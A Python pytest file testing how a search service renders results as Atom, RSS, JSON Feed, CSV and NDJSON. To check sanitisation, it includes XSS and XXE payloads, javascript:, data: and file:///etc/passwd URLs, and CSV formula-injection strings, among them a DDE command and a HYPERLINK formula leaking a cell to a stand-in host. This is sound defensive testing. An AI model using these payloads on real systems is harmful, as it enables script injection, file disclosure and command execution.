"""Feeds as readers of feeds see them, tables as a spreadsheet and a script do."""

import csv
import io
import json

import feedparser
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.search.formats import Format, Place, render, tables
from shared.search.results import SHOWN

ID = "5d41402abc4b2a76b9719d911017c592"
URN = "urn:uuid:5d41402a-bc4b-2a76-b971-9d911017c592"
PLACE = Place(
    "harbour & <ferry>",
    "https://api.example/v1/search?q=harbour&format=atom",
    "https://api.example/v1/search?q=harbour&format=atom&cursor=abc",
    "https://api.example/v1",
)
XML = (Format.ATOM, Format.RSS)
FEEDS = (*XML, Format.JSONFEED)


def result(**fields: object) -> dict:
    told = {
        "id": ID,
        "score": None,
        **dict.fromkeys(SHOWN),
        "key": "articles/harbour.txt",
        "title": "Harbour opens again",
        "url": "https://paper.example/harbour?a=1&b=2",
        "section": "Business",
        "authors": ["Eva Öhman", "Jan Berg"],
        "lang": "en",
        "published_at": "2024-05-02T08:00:00Z",
        "summary": "The harbour & its ferry.",
        "tags": ["Boats"],
        "modified_at": "2024-05-03T09:30:00Z",
        "ingested_at": "2024-05-04T00:00:00.500Z",
        "highlights": {"title": [], "body": []},
    }
    return {**told, **fields}


def page(*results: dict) -> dict:
    return {"results": list(results), "partial": False, "cursor": None, "total": len(results)}


def text(form: Format, *results: dict, place: Place = PLACE) -> str:
    return render.text(form, page(*results), place, SHOWN)


def parsed(form: Format, *results: dict) -> feedparser.FeedParserDict:
    feed = feedparser.parse(io.BytesIO(text(form, *results).encode()))
    assert feed.bozo == 0, feed.get("bozo_exception")
    return feed


@pytest.mark.parametrize("form", XML)
def test_a_feed_tells_a_reader_what_there_is(form):
    feed = parsed(form, result())
    [entry] = feed.entries

    assert (entry.title, entry.link, entry.id) == ("Harbour opens again", result()["url"], URN)
    assert [each.term for each in entry.tags] == ["Business", "Boats"]
    assert entry.published_parsed[:5] == (2024, 5, 2, 8, 0)
    assert "harbour" in entry.summary
    names = [each.name for each in entry.authors] if form is Format.ATOM else entry.author
    assert names == (["Eva Öhman", "Jan Berg"] if form is Format.ATOM else names)
    links = {each.rel: each.href for each in feed.feed.links if each.rel in {"self", "next"}}
    assert links == {"self": PLACE.here, "next": PLACE.following}


def test_an_atom_feed_is_as_new_as_its_newest_entry():
    feed = parsed(Format.ATOM, result(), result(id="0" * 32, modified_at=None))

    assert feed.feed.updated == "2024-05-03T09:30:00Z"
    assert [entry.updated for entry in feed.entries] == ["2024-05-03T09:30:00Z", "2024-05-02T08:00:00Z"]


def test_a_json_feed_whole():
    assert json.loads(text(Format.JSONFEED, result(body="The harbour opened.\n\nA ferry came."))) == {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "harbour & <ferry>",
        "feed_url": PLACE.here,
        "next_url": PLACE.following,
        "items": [
            {
                "id": URN,
                "url": "https://paper.example/harbour?a=1&b=2",
                "title": "Harbour opens again",
                "content_text": "The harbour opened.\n\nA ferry came.",
                "summary": "The harbour & its ferry.",
                "date_published": "2024-05-02T08:00:00Z",
                "date_modified": "2024-05-03T09:30:00Z",
                "authors": [{"name": "Eva Öhman"}, {"name": "Jan Berg"}],
                "tags": ["Business", "Boats"],
                "language": "en",
            }
        ],
    }


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        ("The harbour opened.\n\nA ferry came.", "The harbour opened."),
        ("港" * 400, "港" * 300 + "…"),
        ("", None),
    ],
)
def test_an_entry_without_a_summary_shows_how_it_begins(body, shown):
    [item] = json.loads(text(Format.JSONFEED, result(summary=None, body=body)))["items"]

    assert (item.get("summary"), item["content_text"]) == (shown, body)


@pytest.mark.parametrize("form", FEEDS)
def test_a_feed_of_nothing_is_a_feed(form):
    empty = text(form, place=Place("", PLACE.here, None, PLACE.root))

    if form in XML:
        assert feedparser.parse(empty).bozo == 0
    else:
        assert json.loads(empty)["items"] == []


@pytest.mark.parametrize("form", FEEDS)
def test_a_feed_of_the_same_articles_is_the_same(form):
    assert text(form, result()) == text(form, result())


@pytest.mark.parametrize("url", [None, "", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//x.test"])
@pytest.mark.parametrize("form", XML)
def test_an_entry_leads_to_the_article_where_it_has_no_address_of_the_web(form, url):
    assert parsed(form, result(url=url)).entries[0].link == f"https://api.example/v1/articles/{ID}"


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<!--><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\"'><iframe src=javascript:alert(1)>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "</title><script>alert(1)</script>",
]


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("form", XML)
def test_markup_in_an_article_is_text_in_a_feed(form, markup):
    [entry] = parsed(form, result(title=markup, summary=markup, body=markup, authors=[markup], tags=[markup])).entries

    for name in ("title", "summary"):
        detail = entry[f"{name}_detail"]
        shown = _shown(detail)
        assert shown == markup, name


def _shown(detail: dict) -> str:
    """What a reader shows: HTML where the feed says so, which must hold no tag of its own."""
    import html

    if detail["type"] == "text/html":
        assert "<" not in detail["value"]
        return html.unescape(detail["value"])
    return detail["value"]


@pytest.mark.parametrize("form", XML)
def test_what_xml_cannot_hold_is_left_out(form):
    odd = "a\x00b\x0bc\x1fd\ufffee\uffff\tf\nŒ 🚢"

    [entry] = parsed(form, result(title=odd, summary=odd, authors=[odd], url=f"https://x.example/\x01{ID}")).entries

    assert "abcde" in entry.title
    assert "🚢" in entry.summary


@given(st.text(), st.text(), st.text())
def test_any_text_makes_a_feed_that_can_be_read(title, summary, name):
    odd = result(title=title, summary=summary, body=summary, authors=[name], tags=[name], section=name, lang=None)
    for form in XML:
        parsed(form, odd)
    json.loads(text(Format.JSONFEED, odd))


def rows(*results: dict) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text(Format.CSV, *results), newline="")))


def test_a_table_has_a_row_for_each_result():
    [row] = rows(result())

    assert row == {
        "id": ID,
        **dict.fromkeys(SHOWN, ""),
        "key": "articles/harbour.txt",
        "title": "Harbour opens again",
        "url": "https://paper.example/harbour?a=1&b=2",
        "section": "Business",
        "authors": "Eva Öhman; Jan Berg",
        "lang": "en",
        "published_at": "2024-05-02T08:00:00Z",
        "summary": "The harbour & its ferry.",
    }


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        '=HYPERLINK("https://x.example?a="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "\x00=1+1",
        "-",
    ],
)
def test_no_cell_of_a_table_is_a_formula(formula):
    [row] = rows(result(title=formula, authors=[formula], tags=[]))

    for cell in (row["title"], row["authors"]):
        assert cell == "'" + formula.replace("\x00", "")


@given(st.text())
def test_no_text_breaks_out_of_its_cell(title):
    [first, second] = rows(result(title=title), result())

    assert second["title"] == "Harbour opens again"
    kept = "".join(c for c in title if c >= " " or c in "\t\r\n")
    assert first["title"] in {kept, f"'{kept}"}
    assert not first["title"].lstrip().startswith(("=", "+", "-", "@"))


def test_json_lines_hold_the_results_as_they_are():
    lines = text(Format.NDJSON, result(title="a\nb"), result())

    assert [json.loads(line) for line in lines.splitlines()] == [result(title="a\nb"), result()]


def test_rows_come_one_by_one():
    def endless():
        while True:
            yield result()

    lines = tables.csv_lines(endless(), SHOWN)

    assert next(lines).startswith("id,")
    assert next(lines).startswith(ID)


def test_times_of_feeds_are_of_any_zone_and_year():
    [entry] = parsed(Format.RSS, result(published_at="0001-01-01T00:00:00Z", modified_at=None)).entries

    assert (entry.id, entry.published) == (URN, "Mon, 01 Jan 0001 00:00:00 GMT")
